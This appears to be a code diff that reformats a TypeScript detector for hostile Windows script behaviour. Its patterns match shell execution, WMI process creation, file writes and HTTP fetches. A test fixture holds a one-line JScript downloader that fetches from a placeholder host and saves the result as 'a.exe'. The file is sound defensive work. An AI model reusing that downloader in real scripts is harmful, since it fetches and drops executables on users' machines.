@@ -1,16 +1,22 @@
 import type { Feature, Finder } from './feature.ts';
 import { allOf, anyOf, effects } from './finders.ts';
 
-const calls = (path: RegExp): Finder => effects(({ kind, text }) => kind === 'call' && path.test(text));
+const calls = (path: RegExp): Finder =>
+  effects(({ kind, text }) => kind === 'call' && path.test(text));
 
-const running = calls(/^(?:wscript\.shell\.(?:run|exec)|shell\.application\.(?:shellexecute|open))$/);
+const running = calls(
+  /^(?:wscript\.shell\.(?:run|exec)|shell\.application\.(?:shellexecute|open))$/,
+);
 const byInstrumentation = calls(/^(?:winmgmts|.*win32_process).*\.create$/);
 const saving = calls(/^adodb\.stream\.savetofile$/);
 const writing = calls(/^scripting\.filesystemobject\.\w+\(\)\.write(?:line)?$/);
-const fetching = calls(/^(?:msxml2|microsoft|winhttp)[\w.]*(?:http|winhttprequest)[\w.]*\.(?:open|send)$/);
+const fetching = calls(
+  /^(?:msxml2|microsoft|winhttp)[\w.]*(?:http|winhttprequest)[\w.]*\.(?:open|send)$/,
+);
 
 /** Objects with which a script leaves the browser. */
-const powerful = /^(?:wscript\.shell|shell\.application|adodb\.stream|scripting\.filesystemobject)$/;
+const powerful =
+  /^(?:wscript\.shell|shell\.application|adodb\.stream|scripting\.filesystemobject)$/;
 
 /** Names of such objects that the script does not contain as they are. */
 const hiddenNames: Finder = (facts) =>
@@ -64,9 +70,7 @@ export const systemFeatures: readonly Feature[] = [
       matching: [
         `var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', 'http://x.test/a', false); x.send(); var a = new ActiveXObject('ADODB.Stream'); a.write(x.responseBody); a.saveToFile('a.exe', 2);`,
       ],
-      other: [
-        `var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '/a', true); x.send();`,
-      ],
+      other: [`var x = new ActiveXObject('MSXML2.XMLHTTP'); x.open('GET', '/a', true); x.send();`],
     },
   },
   {
